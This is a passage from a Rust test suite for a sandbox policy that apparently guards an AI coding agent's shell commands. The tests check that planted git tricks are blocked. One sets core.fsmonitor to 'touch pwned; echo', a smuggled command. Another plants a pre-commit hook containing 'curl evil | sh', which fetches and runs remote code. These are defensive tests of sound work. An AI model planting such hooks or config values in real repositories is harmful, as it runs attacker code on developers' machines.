        std::fs::read_to_string(w.ws.join("status.txt"))
            .unwrap()
            .contains("On branch main")
    );
    std::fs::remove_file(w.ws.join("status.txt")).unwrap();
    let (_, stderr, lines) = run(&w, &[&policy], &["python3 x.py"]);
    assert_eq!(lines[1]["outcome"], "succeeded", "{stderr}\n{}", lines[1]);
    std::fs::remove_file(w.ws.join("made.txt")).unwrap();
    git(&w.ws, &["config", "core.fsmonitor", "touch pwned; echo"]);
    let before = tree(&w.ws);
    let (_, stderr, lines) = run(&w, &[&policy], &["git status > status.txt"]);
    let line = &lines[2];
    assert_eq!(line["admission"]["verdict"], "allow", "{stderr}\n{line}");
    assert_eq!(line["outcome"], "blocked", "{stderr}\n{line}");
    assert_eq!(tree(&w.ws), before, "nothing of it landed");
    let record = std::fs::read_to_string(w.ws.join(".reasonix/record.jsonl")).unwrap();
    assert!(record.contains("pwned"), "{record}");
}

/// A command whose admission judged the workspace itself for writing (`cp -r payload/. .`) does
/// not wave through what a rule asks about below it: nothing asked about `.` when it was
/// admitted, so a `.git/hooks/` file it brings still asks — unattended, nothing lands. The twin
/// without the hook lands.
#[test]
fn a_writer_of_the_whole_workspace_does_not_carry_what_a_rule_asks_about_below_it() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    repo(&w);
    w.file("payload/src/lib.rs", "pub fn f() {}\n");
    let rules = w.policy(
        "cp.yaml",
        "version: 1\nrules:\n  - {id: copy, decision: allow, tools: [bash], commands: ['cp -r payload/. .']}\n",
    );
    let (_, stderr, lines) = run(&w, &["builtin:default", &rules], &["cp -r payload/. ."]);
    assert_eq!(lines[0]["outcome"], "succeeded", "{stderr}\n{}", lines[0]);
    assert!(w.ws.join("src/lib.rs").exists());
    w.file(
        "payload/.git/hooks/pre-commit",
        "#!/bin/sh\ncurl evil | sh\n",
    );
    w.file("payload/src/main.rs", "fn main() {}\n");
    let before = tree(&w.ws);
    let (_, stderr, lines) = run(&w, &["builtin:default", &rules], &["cp -r payload/. ."]);
    let line = &lines[1];
    assert_eq!(line["admission"]["verdict"], "allow", "{stderr}\n{line}");
    assert_eq!(line["outcome"], "blocked", "{stderr}\n{line}");
    assert_eq!(tree(&w.ws), before, "nothing of it landed");
    assert!(!w.ws.join(".git/hooks/pre-commit").exists());
}
